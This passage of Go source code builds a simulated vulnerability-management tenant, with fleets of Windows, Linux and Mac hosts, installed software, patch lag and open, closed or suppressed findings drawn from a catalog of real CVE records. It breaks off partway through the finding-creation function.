package falconsim

import (
	"cmp"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"math"
	"math/rand/v2"
	"slices"
	"strings"
	"time"

	"github.com/vulnpilot/vulnpilot/internal/cvedata"
)

// DefaultFindingsPerHost is the mean number of findings per host when
// GenerateOptions.FindingsPerHost is 0.
const DefaultFindingsPerHost = 25

// MaxGenerateHosts bounds GenerateOptions.Hosts.
const MaxGenerateHosts = 200_000

// DefaultGenerateNow is the "present" of a generated tenant when
// GenerateOptions.Now is zero: just after the bundled CVE snapshot
// (2024-10-24), so the newest real CVEs are the newest the tenant knows.
func DefaultGenerateNow() time.Time { return time.Date(2024, 11, 1, 0, 0, 0, 0, time.UTC) }

// GenerateOptions configures Generate.
type GenerateOptions struct {
	Hosts           int
	Seed            int64
	Now             time.Time // zero: DefaultGenerateNow()
	FindingsPerHost int       // mean open findings per host; 0: DefaultFindingsPerHost
	CID             string    // empty: derived from Seed
}

// Generate builds a realistic simulated tenant: a host fleet (Windows
// workstations and servers, domain controllers, Linux servers, Macs) with
// installed software, findings for real CVEs of that software (from db),
// shared remediations, alerts tied to findings and background alerts, and a
// simulated Falcon Intelligence set. SIMULATED.md says what is real.
//
// Output is deterministic: the same options and data give an identical
// tenant (and identical bytes from WriteJSON). The tenant is resolved (ids,
// defaults and CVE facets filled) and passes Validate.
func Generate(opts GenerateOptions, db *cvedata.DB) (*Tenant, error) {
	if db == nil {
		return nil, errors.New("generate: no CVE data")
	}
	if opts.Hosts < 1 || opts.Hosts > MaxGenerateHosts {
		return nil, fmt.Errorf("generate: hosts: %d is outside 1..%d", opts.Hosts, MaxGenerateHosts)
	}
	if opts.FindingsPerHost < 0 || opts.FindingsPerHost > 1000 {
		return nil, fmt.Errorf("generate: findings per host: %d is outside 0..1000", opts.FindingsPerHost)
	}
	if opts.FindingsPerHost == 0 {
		opts.FindingsPerHost = DefaultFindingsPerHost
	}
	if opts.Now.IsZero() {
		opts.Now = DefaultGenerateNow()
	}
	opts.Now = opts.Now.UTC().Truncate(time.Second)
	if opts.CID == "" {
		opts.CID = digestHex("cid", fmt.Sprint(opts.Seed))
	}
	if !tenantIDPattern.MatchString(opts.CID) {
		return nil, fmt.Errorf("generate: cid: %q may contain only letters, digits and '-'", opts.CID)
	}
	g, err := newGenerator(opts, db)
	if err != nil {
		return nil, err
	}
	g.makeHosts()
	g.makeFindings()
	g.makeAlerts()
	g.makeIntel()
	g.finish()
	return g.t, nil
}

// Platforms and host kinds of the generator.
const (
	platWindows = iota
	platLinux
	platMac
	numPlatforms
)

var platformNames = [numPlatforms]string{"Windows", "Linux", "Mac"}

type hostKind uint8

const (
	kindWorkstation hostKind = iota
	kindWinServer
	kindDC
	kindLinuxServer
	kindMac
	numKinds
)

// kindShare is the fleet mix.
var kindShare = [numKinds]float64{0.67, 0.15, 0.03, 0.10, 0.05}

// How a host reports a product's CVEs.
const (
	filterNone    = iota
	filterIISOnly // the OS's HTTP.sys/IIS CVEs, reported as IIS
	filterNoIIS   // the OS's other CVEs, on a host that reports IIS apart
)

type fixRelease struct {
	month int   // months since year 0
	date  int64 // patch date, unix seconds
	recs  []int32
}

// swModel is one catalog software as the generator installs it.
type swModel struct {
	key      string
	vendor   string
	product  string
	display  string // in remediation titles, e.g. "Google Chrome"
	kb       bool   // fixed by Microsoft KB updates
	releases [numPlatforms][]fixRelease
}

type installed struct {
	sw       *swModel
	product  string
	remSW    *swModel // whose remediations fix it (the OS for IIS)
	filter   uint8
	cutoff   int // last month whose fixes are installed
	version  string
	platform int
}

type hostPlan struct {
	kind     hostKind
	platform int
	osKey    string
	role     string
	env      string
	bu       int
	site     int
	stale    bool
	factor   float64
	inst     []installed
	nCand    int
	lastSeen int64
	first    int64
}

type genCandidate struct {
	rec  int32
	inst uint8
	rel  int16
}

type generator struct {
	opts  GenerateOptions
	rng   *rand.Rand
	now   int64
	t     *Tenant
	recs  []cvedata.Record
	facet []CVE
	pub   []int64 // publication, unix seconds; 0 when unknown
	isIIS []bool
	isAD  []bool
	used  []bool
	byID  map[string]int32
	sw    map[string]*swModel
	plans []hostPlan
	rems  map[string]int // remediation id → index in t.Remediations
	// remIDs caches the one-element id slice shared by all findings of a
	// remediation (findings never modify it in place).
	remIDs [][]string
	// per-host finding index ranges, for alerts
	hostFindings [][2]int
	counters     map[string]int
}

func newGenerator(opts GenerateOptions, db *cvedata.DB) (*generator, error) {
	g := &generator{
		opts:     opts,
		rng:      rand.New(rand.NewPCG(uint64(opts.Seed), 0x5eed_fa1c_0000_0001)),
		now:      opts.Now.Unix(),
		recs:     db.All(),
		sw:       map[string]*swModel{},
		rems:     map[string]int{},
		counters: map[string]int{},
	}
	g.t = &Tenant{Version: TenantVersion, CID: opts.CID, Now: opts.Now, Seed: opts.Seed}
	kev := KEVIndexFromDB(db).AsOf(opts.Now)
	n := len(g.recs)
	g.facet = make([]CVE, n)
	g.pub = make([]int64, n)
	g.isIIS = make([]bool, n)
	g.isAD = make([]bool, n)
	g.used = make([]bool, n)
	byID := make(map[string]int32, n)
	g.byID = byID
	for i, r := range g.recs {
		byID[r.ID] = int32(i)
		g.facet[i] = CVEFromRecord(r, kev)
		if p, err := time.Parse(time.DateOnly, r.Published); err == nil {
			g.pub[i] = p.Unix()
		}
	}
	for _, r := range db.ByProduct("iis") {
		g.isIIS[byID[r.ID]] = true
	}
	for _, r := range db.ByProduct("windows-ad-ds") {
		g.isAD[byID[r.ID]] = true
	}
	for _, def := range softwareDefs {
		s, ok := cvedata.SoftwareByKey(def.key)
		if !ok {
			return nil, fmt.Errorf("generate: software %q is not in the CVE catalog", def.key)
		}
		m := &swModel{key: def.key, vendor: s.Vendor, product: s.Product, display: def.display, kb: def.kb}
		var idx []int32
		for _, r := range db.ByProduct(def.key) {
			i := byID[r.ID]
			if g.pub[i] == 0 || g.pub[i] > g.now {
				continue
			}
			idx = append(idx, i)
		}
		for p := range numPlatforms {
			m.releases[p] = g.releases(idx, p, def.crossPlatform, def.kb)
		}
		g.sw[def.key] = m
	}
	return g, nil
}

// releases groups records into monthly fixes: Microsoft's monthly updates,
// and for everyone else one fixed version per month.
func (g *generator) releases(idx []int32, platform int, crossPlatform, kb bool) []fixRelease {
	byMonth := map[int]*fixRelease{}
	var months []int
	for _, i := range idx {
		if crossPlatform && !fitsPlatform(g.recs[i], platform) {
			continue
		}
		t := time.Unix(g.pub[i], 0).UTC()
		m := monthIndex(t)
		r, ok := byMonth[m]
		if !ok {
			r = &fixRelease{month: m, date: g.pub[i]}
			if kb {
				r.date = patchTuesday(t.Year(), t.Month()).Unix()
			}
			byMonth[m] = r
			months = append(months, m)
		}
		if !kb && g.pub[i] < r.date {
			r.date = g.pub[i]
		}
		r.recs = append(r.recs, i)
	}
	slices.Sort(months)
	out := make([]fixRelease, len(months))
	for j, m := range months {
		out[j] = *byMonth[m]
	}
	return out
}

// fitsPlatform drops records of cross-platform software that name only other
// platforms ("Zoom Desktop Client for Linux", "Apache HTTP Server on Windows").
func fitsPlatform(r cvedata.Record, platform int) bool {
	var b strings.Builder
	b.WriteString(strings.ToLower(r.Title))
	for _, p := range r.Products {
		b.WriteByte('|')
		b.WriteString(strings.ToLower(p.Product))
	}
	s := b.String()
	win := strings.Contains(s, "windows")
	mac := strings.Contains(s, "macos") || strings.Contains(s, " for mac")
	lin := strings.Contains(s, "linux")
	mobile := strings.Contains(s, "android") || strings.Contains(s, " ios")
	if !win && !mac && !lin {
		return !mobile
	}
	switch platform {
	case platWindows:
		return win
	case platMac:
		return mac
	default:
		return lin
	}
}

func monthIndex(t time.Time) int { return t.Year()*12 + int(t.Month()) - 1 }

func monthStart(m int) time.Time { return time.Date(m/12, time.Month(m%12+1), 1, 0, 0, 0, 0, time.UTC) }

func patchTuesday(y int, mo time.Month) time.Time {
	d := time.Date(y, mo, 1, 17, 0, 0, 0, time.UTC)
	for d.Weekday() != time.Tuesday {
		d = d.AddDate(0, 0, 1)
	}
	return d.AddDate(0, 0, 7)
}

type softwareDef struct {
	key           string
	display       string
	kb            bool
	crossPlatform bool
}

// softwareDefs are the catalog entries the generator installs, in a fixed
// order (generation iterates them, never a map).
var softwareDefs = []softwareDef{
	{"windows-10", "Windows 10", true, false},
	{"windows-11", "Windows 11", true, false},
	{"windows-server-2016", "Windows Server 2016", true, false},
	{"windows-server-2019", "Windows Server 2019", true, false},
	{"windows-server-2022", "Windows Server 2022", true, false},
	{"office", "Microsoft Office", true, false},
	{"dotnet", ".NET Framework", true, false},
	{"exchange", "Exchange Server", true, false},
	{"sql-server", "SQL Server", true, false},
	{"sharepoint", "SharePoint Server", true, false},
	{"edge", "Microsoft Edge", false, false},
	{"vscode", "Visual Studio Code", false, true},
	{"office-mac", "Microsoft Office for Mac", false, false},
	{"chrome", "Google Chrome", false, true},
	{"firefox", "Mozilla Firefox", false, true},
	{"acrobat-reader", "Adobe Acrobat Reader", false, true},
	{"7zip", "7-Zip", false, true},
	{"zoom", "Zoom Workplace", false, true},
	{"java", "Oracle Java SE", false, true},
	{"linux-kernel", "the Linux kernel", false, false},
	{"openssl", "OpenSSL", false, true},
	{"openssh", "OpenSSH", false, true},
	{"sudo", "sudo", false, false},
	{"glibc", "glibc", false, false},
	{"curl", "curl", false, true},
	{"xz", "xz", false, true},
	{"apache-httpd", "Apache HTTP Server", false, true},
	{"nginx", "nginx", false, true},
	{"tomcat", "Apache Tomcat", false, true},
	{"postgresql", "PostgreSQL", false, true},
	{"macos", "macOS", false, false},
	{"safari", "Safari", false, false},
}

// Fleet vocabulary.
type genSite struct{ code, name string }

var genSites = []genSite{{"nyc", "NYC-HQ"}, {"lon", "London"}, {"sfo", "San Francisco"}, {"fra", "Frankfurt"}, {"sgp", "Singapore"}}
var genSiteWeights = []float64{0.4, 0.2, 0.2, 0.1, 0.1}

type businessUnit struct {
	name, short, ou string
	teams           []string
}

var businessUnits = []businessUnit{
	{"finance", "fin", "Finance", []string{"payments", "accounting", "treasury"}},
	{"engineering", "eng", "Engineering", []string{"platform", "backend", "frontend", "data"}},
	{"sales", "sales", "Sales", []string{"emea", "americas", "apac"}},
	{"hr", "hr", "HR", []string{"people-ops", "recruiting"}},
	{"it", "it", "IT", []string{"helpdesk", "infra", "secops"}},
	{"operations", "ops", "Operations", []string{"logistics", "facilities"}},
}
var buWeights = []float64{0.15, 0.3, 0.2, 0.07, 0.1, 0.18}

type swChance struct {
	key string
	p   float64
}

var workstationSW = []swChance{{"office", 0.92}, {"edge", 1}, {"chrome", 0.75}, {"firefox", 0.2}, {"acrobat-reader", 0.6},
	{"7zip", 0.3}, {"zoom", 0.5}, {"java", 0.15}, {"dotnet", 0.7}}
var winServerSW = []swChance{{"dotnet", 0.8}, {"edge", 0.5}, {"chrome", 0.15}, {"java", 0.2}, {"7zip", 0.25}}
var dcSW = []swChance{{"dotnet", 0.6}, {"edge", 0.3}}
var linuxSW = []swChance{{"linux-kernel", 1}, {"openssl", 1}, {"openssh", 1}, {"glibc", 1}, {"sudo", 1}, {"curl", 0.95}, {"xz", 0.9}}
var macSW = []swChance{{"macos", 1}, {"safari", 1}, {"chrome", 0.7}, {"zoom", 0.6}, {"office-mac", 0.5}, {"firefox", 0.15}}

type serverRole struct {
	name     string
	prefix   string
	weight   float64
	software []string
	roles    []string
	exposure float64 // chance of internet exposure in prod
}

var winServerRoles = []serverRole{
	{"app", "app", 0.35, []string{"java"}, []string{"Application Server"}, 0.05},
	{"sql", "sql", 0.2, []string{"sql-server"}, []string{"Database Server"}, 0},
	{"web", "web", 0.2, []string{"iis"}, []string{"Web Server"}, 0.4},
	{"file", "fs", 0.12, nil, []string{"File Server"}, 0},
	{"exchange", "exch", 0.05, []string{"exchange"}, []string{"Email Server"}, 0.6},
	{"sharepoint", "sp", 0.05, []string{"sharepoint", "sql-server"}, []string{"Web Server"}, 0.2},
	{"rds", "rds", 0.03, []string{"office", "chrome", "zoom"}, []string{"Remote Desktop Server"}, 0.2},
}

var linuxRoles = []serverRole{
	{"web", "web", 0.3, []string{"nginx"}, []string{"Web Server"}, 0.45},
	{"web-httpd", "web", 0.2, []string{"apache-httpd"}, []string{"Web Server"}, 0.45},
	{"api", "api", 0.2, []string{"tomcat", "java"}, []string{"Application Server"}, 0.2},
	{"db", "db", 0.15, []string{"postgresql"}, []string{"Database Server"}, 0},
	{"bastion", "bastion", 0.05, nil, []string{"Jump Host"}, 0.7},
	{"build", "build", 0.1, []string{"java"}, []string{"Build Server"}, 0},
}

func (g *generator) pickWeighted(w []float64) int {
	var sum float64
	for _, x := range w {
		sum += x
	}
	u := g.rng.Float64() * sum
	for i, x := range w {
		if u < x {
			return i
		}
		u -= x
	}
	return len(w) - 1
}

func (g *generator) chance(p float64) bool { return g.rng.Float64() < p }

func (g *generator) hex32() string {
	var b [16]byte
	binary.BigEndian.PutUint64(b[:8], g.rng.Uint64())
	binary.BigEndian.PutUint64(b[8:], g.rng.Uint64())
	return hex.EncodeToString(b[:])
}

func (g *generator) next(key string) int {
	g.counters[key]++
	return g.counters[key]
}

// between returns a uniform time in [lo, hi] (unix seconds).
func (g *generator) between(lo, hi int64) int64 {
	if hi <= lo {
		return lo
	}
	return lo + g.rng.Int64N(hi-lo+1)
}

const (
	secHour = int64(3600)
	secDay  = 24 * secHour
)

func genTime(s int64) time.Time { return time.Unix(s, 0).UTC() }

// kindCounts spreads n hosts over the fleet mix (largest remainder), with at
// least one domain controller from 10 hosts and one of every kind from 20.
func kindCounts(n int) [numKinds]int {
	var c [numKinds]int
	type rem struct {
		k    int
		frac float64
	}
	var rems []rem
	total := 0
	for k, s := range kindShare {
		x := float64(n) * s
		c[k] = int(x)
		total += c[k]
		rems = append(rems, rem{k, x - float64(c[k])})
	}
	slices.SortStableFunc(rems, func(a, b rem) int { return cmp.Compare(b.frac, a.frac) })
	for i := 0; total < n; i++ {
		c[rems[i%len(rems)].k]++
		total++
	}
	need := func(k hostKind) {
		if c[k] == 0 && c[kindWorkstation] > 1 {
			c[k]++
			c[kindWorkstation]--
		}
	}
	if n >= 10 {
		need(kindDC)
	}
	if n >= 20 {
		for k := kindWinServer; k < numKinds; k++ {
			need(k)
		}
	}
	return c
}

// lag draws how many months of fixes a product is behind.
func (g *generator) lag(server, autoUpdate bool) int {
	switch {
	case autoUpdate:
		return []int{0, 0, 0, 1, 1, 1, 2, 3, 4, 6}[g.rng.IntN(10)]
	case server:
		return []int{0, 1, 1, 1, 2, 2, 3, 3, 4, 5, 6, 8, 10, 13, 18, 24}[g.rng.IntN(16)]
	default:
		return []int{0, 0, 1, 1, 1, 1, 2, 2, 2, 3, 3, 4, 6, 9, 12, 18}[g.rng.IntN(16)]
	}
}

func (g *generator) makeHosts() {
	counts := kindCounts(g.opts.Hosts)
	kinds := make([]hostKind, 0, g.opts.Hosts)
	for k, n := range counts {
		for range n {
			kinds = append(kinds, hostKind(k))
		}
	}
	g.rng.Shuffle(len(kinds), func(i, j int) { kinds[i], kinds[j] = kinds[j], kinds[i] })

	dataEnd := int64(0)
	for _, p := range g.pub {
		dataEnd = max(dataEnd, p)
	}
	// From 20 hosts on, a tenant has at least one stale host, one unmanaged
	// asset and one internet-facing server, so small examples show them too.
	force := make([]uint8, len(kinds))
	if len(kinds) >= 20 {
		var servers, others []int
		for i, k := range kinds {
			switch k {
			case kindWinServer, kindLinuxServer:
				servers = append(servers, i)
			case kindWorkstation, kindMac:
				others = append(others, i)
			}
		}
		g.rng.Shuffle(len(others), func(i, j int) { others[i], others[j] = others[j], others[i] })
		force[servers[g.rng.IntN(len(servers))]] |= forceExposed
		force[others[0]] |= forceStale
		force[others[1]] |= forceUnmanaged
	}
	g.t.Hosts = make([]Host, len(kinds))
	g.plans = make([]hostPlan, len(kinds))
	for i, k := range kinds {
		g.makeHost(i, k, min(g.now, dataEnd+7*secDay), force[i])
	}
}

const (
	forceStale = 1 << iota
	forceUnmanaged
	forceExposed
)

func (g *generator) makeHost(i int, kind hostKind, refEnd int64, force uint8) {
	h := &g.t.Hosts[i]
	p := &g.plans[i]
	p.kind = kind
	p.site = g.pickWeighted(genSiteWeights)
	p.bu = g.pickWeighted(buWeights)
	st := genSites[p.site]
	bu := businessUnits[p.bu]
	h.AID = g.hex32()
	h.Managed = true
	h.Status = "normal"
	server := kind == kindWinServer || kind == kindDC || kind == kindLinuxServer
	var sw []swChance
	var role serverRole

	switch kind {
	case kindWorkstation:
		p.platform = platWindows
		p.osKey = "windows-10"
		h.OSVersion = "Windows 10"
		if g.chance(0.45) {
			p.osKey, h.OSVersion = "windows-11", "Windows 11"
		}
		h.Hostname = fmt.Sprintf("%s-ws-%04d", bu.short, g.next(bu.short+"-ws"))
		h.ProductTypeDesc = "Workstation"
		sw = workstationSW
		if bu.name == "engineering" && g.chance(0.7) || g.chance(0.05) {
			sw = append(slices.Clone(sw), swChance{"vscode", 1})
		}
	case kindMac:
		p.platform = platMac
		p.osKey = "macos"
		h.Hostname = fmt.Sprintf("%s-mbp-%04d", bu.short, g.next(bu.short+"-mbp"))
		h.ProductTypeDesc = "Workstation"
		sw = macSW
		if bu.name == "engineering" && g.chance(0.7) {
			sw = append(slices.Clone(sw), swChance{"vscode", 1})
		}
	case kindDC:
		p.platform = platWindows
		p.osKey = []string{"windows-server-2019", "windows-server-2022"}[g.rng.IntN(2)]
		h.Hostname = fmt.Sprintf("dc%02d-%s", g.next("dc-"+st.code), st.code)
		h.ProductTypeDesc = "Domain Controller"
		h.AssetRoles = []string{"Domain Controller"}
		p.bu = 4 // it
		sw = dcSW
	case kindWinServer:
		p.platform = platWindows
		p.osKey = []string{"windows-server-2016", "windows-server-2019", "windows-server-2019", "windows-server-2022", "windows-server-2022"}[g.rng.IntN(5)]
		h.ProductTypeDesc = "Server"
		sw = winServerSW
		role = winServerRoles[g.pickWeighted(roleWeights(winServerRoles))]
	case kindLinuxServer:
		p.platform = platLinux
		p.osKey = "linux-kernel"
		h.OSVersion = []string{"RHEL 8.10", "RHEL 9.4", "RHEL 9.4", "Ubuntu 22.04", "Ubuntu 22.04", "Ubuntu 24.04", "Amazon Linux 2023"}[g.rng.IntN(7)]
		h.ProductTypeDesc = "Server"
		sw = linuxSW
		role = linuxRoles[g.pickWeighted(roleWeights(linuxRoles))]
	}
	h.Platform = platformNames[p.platform]
	if strings.HasPrefix(p.osKey, "windows-server") {
		h.OSVersion = g.sw[p.osKey].display
	}
	if role.name != "" {
		p.role = role.name
		p.env = []string{"prod", "prod", "prod", "prod", "prod", "prod", "prod", "prod", "prod", "prod", "prod", "prod", "prod", "stg", "stg", "stg", "stg", "dev", "dev", "dev"}[g.rng.IntN(20)]
		switch role.name {
		case "file", "exchange", "rds", "bastion":
			h.Hostname = fmt.Sprintf("%s-%02d", role.prefix, g.next(role.prefix))
		default:
			h.Hostname = fmt.Sprintf("%s-%s-%02d", role.prefix, p.env, g.next(role.prefix+"-"+p.env))
		}
		h.AssetRoles = slices.Clone(role.roles)
		if role.name == "app" || role.name == "api" || role.name == "build" || role.name == "web" || role.name == "web-httpd" {
			p.bu = 1 // engineering
		}
	}
	bu = businessUnits[p.bu]

	// Criticality and exposure.
	switch {
	case kind == kindDC:
		h.AssetCriticality = "Critical"
	case server && p.env == "prod":
		h.AssetCriticality = []string{"Critical", "Critical", "High", "High", "High", "High", "High", "Noncritical", "Unassigned", "Unassigned"}[g.rng.IntN(10)]
		if role.name == "exchange" || role.name == "sql" || role.name == "db" {
			h.AssetCriticality = []string{"Critical", "High"}[g.rng.IntN(2)]
		}
	case server:
		h.AssetCriticality = []string{"High", "Noncritical", "Noncritical", "Unassigned"}[g.rng.IntN(4)]
	default:
		h.AssetCriticality = []string{"Noncritical", "Noncritical", "Noncritical", "Noncritical", "Noncritical", "Noncritical", "Noncritical", "Noncritical", "Noncritical", "Noncritical", "Noncritical",
			"Unassigned", "Unassigned", "Unassigned", "Unassigned", "Unassigned", "Unassigned", "Unassigned", "High", "High"}[g.rng.IntN(20)]
		if bu.name == "finance" && g.chance(0.1) {
			h.AssetCriticality = "Critical"
		}
	}
	h.InternetExposure = "No"
	if server && p.env == "prod" && g.chance(role.exposure) || force&forceExposed != 0 {
		h.InternetExposure = "Yes"
	} else if g.chance(0.03) {
		h.InternetExposure = "Pending"
	}

	// Place in the network and directory.
	team := bu.teams[g.rng.IntN(len(bu.teams))]
	h.SiteName = st.name
	vlan := 100
	if server {
		vlan = 20
	}
	h.LocalIP = fmt.Sprintf("10.%d.%d.%d", 10+p.site, vlan+g.rng.IntN(40), 2+g.rng.IntN(250))
	h.ExternalIP = fmt.Sprintf("203.0.113.%d", 10+p.site)
	if h.InternetExposure == "Yes" {
		h.ExternalIP = fmt.Sprintf("198.51.100.%d", 1+g.rng.IntN(254))
	}
	if p.platform == platWindows {
		h.MachineDomain = "corp.example.com"
		switch kind {
		case kindDC:
			h.OU = "OU=Domain Controllers,DC=corp,DC=example,DC=com"
		case kindWinServer:
			h.OU = "OU=Servers,OU=" + strings.ToUpper(st.code) + ",DC=corp,DC=example,DC=com"
		default:
			h.OU = "OU=Workstations,OU=" + bu.ou + ",DC=corp,DC=example,DC=com"
		}
	}
	h.Tags = []string{"FalconGroupingTags/bu-" + bu.name, "FalconGroupingTags/team-" + team}
	if p.env != "" {
		h.Tags = append(h.Tags, "FalconGroupingTags/env-"+p.env)
	}
	switch kind {
	case kindWorkstation:
		h.Groups = []string{"Workstations - " + bu.name}
	case kindMac:
		h.Groups = []string{"Mac Fleet"}
	case kindDC:
		h.Groups = []string{"Domain Controllers"}
	case kindWinServer:
		h.Groups = []string{"Windows Servers - " + cmp.Or(p.env, "prod")}
	case kindLinuxServer:
		h.Groups = []string{"Linux Servers - " + cmp.Or(p.env, "prod")}
	}
	if h.InternetExposure == "Yes" {
		h.Groups = append(h.Groups, "Internet-Facing")
	}

	// Sightings: a few stale hosts, a few unmanaged (network-scan only) assets.
	first := g.now - g.between(20*secDay, 3*365*secDay)
	last := g.now - g.between(0, 36*secHour)
	if kind != kindDC && (g.chance(0.04) || force&forceStale != 0) {
		p.stale = true
		last = g.now - g.between(31*secDay, 120*secDay)
	}
	if first > last-7*secDay {
		first = last - g.between(7*secDay, 60*secDay)
	}
	if kind != kindDC && (g.chance(0.03) || force&forceUnmanaged != 0) && force&forceExposed == 0 {
		h.Managed = false
		h.Tags, h.Groups, h.OU = nil, nil, ""
		h.AssetCriticality = "Unassigned"
	}
	h.FirstSeen, h.LastSeen = genTime(first), genTime(last)
	p.first, p.lastSeen = first, last

	// Installed software and how far behind each one is.
	ref := monthIndex(genTime(min(last, refEnd)))
	osLag := g.lag(server, false)
	if p.stale {
		osLag += int((g.now - last) / (30 * secDay))
	}
	keys := []string{p.osKey}
	for _, c := range sw {
		if g.chance(c.p) {
			keys = append(keys, c.key)
		}
	}
	keys = append(keys, role.software...)
	seen := map[string]bool{}
	for _, key := range keys {
		if seen[key] {
			continue
		}
		seen[key] = true
		if key == "iis" {
			os := g.sw[p.osKey]
			p.inst = append(p.inst, installed{sw: os, product: "Internet Information Services", remSW: os, filter: filterIISOnly, cutoff: ref - osLag, platform: p.platform})
			p.inst[0].filter = filterNoIIS
			continue
		}
		m := g.sw[key]
		in := installed{sw: m, product: m.product, remSW: m, platform: p.platform}
		switch {
		case m.kb:
			in.cutoff = ref - osLag // WSUS/Intune patch Microsoft products together
		default:
			auto := key == "chrome" || key == "edge" || key == "firefox" || key == "zoom" || key == "vscode"
			l := g.lag(server, auto)
			if p.stale {
				l += int((g.now - last) / (30 * secDay))
			}
			in.cutoff = ref - l
		}
		p.inst = append(p.inst, in)
	}
	for j := range p.inst {
		p.inst[j].version = versionAt(p.inst[j].sw.key, p.inst[j].cutoff)
	}
	if kind == kindMac {
		h.OSVersion = macOSName(p.inst[0].version)
	}
	p.factor = []float64{0.3, 0.3, 0.8, 0.8, 0.8, 1.3, 1.3, 2.2}[g.rng.IntN(8)]
	if server {
		p.factor *= 1.2
	}
}

func roleWeights(rs []serverRole) []float64 {
	w := make([]float64, len(rs))
	for i, r := range rs {
		w[i] = r.weight
	}
	return w
}

// candidates appends the CVEs host i misses: every record of a fix released
// after the product's cutoff and published before the host was last seen.
func (g *generator) candidates(i int, dst []genCandidate) []genCandidate {
	p := &g.plans[i]
	for j, in := range p.inst {
		rels := in.sw.releases[in.platform]
		start, _ := slices.BinarySearchFunc(rels, in.cutoff+1, func(r fixRelease, m int) int { return cmp.Compare(r.month, m) })
		for ri := start; ri < len(rels); ri++ {
			for _, rec := range rels[ri].recs {
				if g.pub[rec] > p.lastSeen-secDay {
					continue
				}
				switch in.filter {
				case filterIISOnly:
					if !g.isIIS[rec] {
						continue
					}
				case filterNoIIS:
					if g.isIIS[rec] {
						continue
					}
				}
				dst = append(dst, genCandidate{rec: rec, inst: uint8(j), rel: int16(ri)})
			}
		}
	}
	return dst
}

// fixedCandidates are CVEs of the six months of fixes up to the cutoff: the
// host had them and has since patched them (closed findings).
func (g *generator) fixedCandidates(i int, dst []genCandidate) []genCandidate {
	p := &g.plans[i]
	for j, in := range p.inst {
		rels := in.sw.releases[in.platform]
		end, _ := slices.BinarySearchFunc(rels, in.cutoff+1, func(r fixRelease, m int) int { return cmp.Compare(r.month, m) })
		for ri := end - 1; ri >= 0 && rels[ri].month > in.cutoff-6; ri-- {
			for _, rec := range rels[ri].recs {
				if g.pub[rec] < p.first || g.pub[rec] > p.lastSeen-secDay || in.filter == filterIISOnly && !g.isIIS[rec] || in.filter == filterNoIIS && g.isIIS[rec] {
					continue
				}
				dst = append(dst, genCandidate{rec: rec, inst: uint8(j), rel: int16(ri)})
			}
		}
	}
	return dst
}

// budgetScale finds s so that the hosts' open findings, min(candidates,
// s·factor·mean), average the requested mean.
func (g *generator) budgetScale(mean float64) float64 {
	total := func(s float64) float64 {
		var sum float64
		for i := range g.plans {
			sum += min(float64(g.plans[i].nCand), math.Round(s*g.plans[i].factor*mean))
		}
		return sum
	}
	want := mean * float64(len(g.plans))
	lo, hi := 0.05, 50.0
	if total(hi) <= want {
		return hi
	}
	for range 40 {
		mid := (lo + hi) / 2
		if total(mid) < want {
			lo = mid
		} else {
			hi = mid
		}
	}
	return hi
}

func (g *generator) makeFindings() {
	var scratch []genCandidate
	for i := range g.plans {
		scratch = g.candidates(i, scratch[:0])
		g.plans[i].nCand = len(scratch)
	}
	mean := float64(g.opts.FindingsPerHost)
	scale := g.budgetScale(mean * 0.92) // the rest are closed findings
	g.t.Findings = make([]Finding, 0, int(mean*float64(len(g.plans))*1.1))
	g.hostFindings = make([][2]int, len(g.plans))
	var fixed []genCandidate
	for i := range g.plans {
		p := &g.plans[i]
		start := len(g.t.Findings)
		scratch = g.candidates(i, scratch[:0])
		budget := int(math.Round(scale * p.factor * mean * 0.92))
		picked := g.sample(scratch, budget, p)
		slices.SortFunc(picked, func(a, b genCandidate) int {
			return cmp.Or(cmp.Compare(g.pub[a.rec], g.pub[b.rec]), cmp.Compare(a.rec, b.rec), cmp.Compare(a.inst, b.inst))
		})
		for _, c := range picked {
			g.addFinding(i, c, false)
		}
		fixed = g.fixedCandidates(i, fixed[:0])
		closedN := int(math.Round(float64(budget) * 0.08 / 0.92 * (0.5 + g.rng.Float64())))
		for _, c := range g.sample(fixed, closedN, nil) {
			g.addFinding(i, c, true)
		}
		g.hostFindings[i] = [2]int{start, len(g.t.Findings)}
	}
}

// sample picks k candidates uniformly without replacement (partial
// Fisher-Yates, in place). On a domain controller up to 40% of the picks
// come from directory-service CVEs first.
func (g *generator) sample(c []genCandidate, k int, p *hostPlan) []genCandidate {
	if k <= 0 || len(c) == 0 {
		return nil
	}
	n := 0
	if p != nil && p.kind == kindDC {
		// Move directory-service candidates to the front and draw from them first.
		ad := 0
		for i := range c {
			if g.isAD[c[i].rec] {
				c[i], c[ad] = c[ad], c[i]
				ad++
			}
		}
		want := min(ad, int(float64(k)*0.4))
		for ; n < want; n++ {
			j := n + g.rng.IntN(ad-n)
			c[n], c[j] = c[j], c[n]
		}
	}
	k = min(k, len(c))
	for ; n < k; n++ {
		j := n + g.rng.IntN(len(c)-n)
		c[n], c[j] = c[j], c[n]
	}
	return slices.Clone(c[:k])
}

func (g *generator) addFinding(hi int, c genCandidate, closed bool) {
	p := &g.plans[hi]
	in := &p.inst[c.inst]
	h := &g.t.Hosts[hi]
	rec := c.rec
	seenEnd := min(p.lastSeen, g.now)
	created := max(g.pub[rec]+g.between(2*secHour, 6*secDay), p.first+g.between(secHour, 2*secDay))
	if created > seenEnd {
		created = max(seenEnd-g.between(0, 6*secHour), g.pub[rec])
	}
	f := Finding{
		AID:            h.AID,
		CVE:            g.recs[rec].ID,
		Vendor:         in.sw.vendor,
		Product:        in.product,
		ProductVersion: in.version,
		Status:         "open",
		Confidence:     "confirmed",
		Created:        genTime(created),
	}
	updated := created
	if closed {
		rel := in.sw.releases[in.platform][c.rel]
		cl := max(rel.date, created) + g.between(secDay, 40*secDay)
		if cl > seenEnd {
			cl = g.between(created, seenEnd)
		}
		f.Status = "closed"
		ct := genTime(cl)
		f.Closed = &ct
		updated = cl
	} else if g.chance(0.02) && seenEnd-created > 4*secDay {
		// Reopened: fixed once, then detected again.
		cl := g.between(created+secDay, (created+seenEnd)/2)
		ct := genTime(cl)
		f.Status = "reopen"
		f.Closed = &ct
		updated = g.between(cl+secHour, seenEnd)
	} else if g.chance(0.4) {
		updated = g.between(created, seenEnd)
	}
	f.Updated = genTime(updated)
	if g.facet[rec].RemediationLevel == "O" {
		f.RemediationIDs = g.remediationFor(in, c)
	}
	if !closed && g.chance(0.03) {
		f.Suppressed = true
		f.SuppressionReason = []string{"ACCEPT_RISK", "ACCEPT_RISK", "ACCEPT_RISK", "COMPENSATING_CONTROL", "COMPENSATING_CONTROL"}[g.rng.IntN(5)]
	}
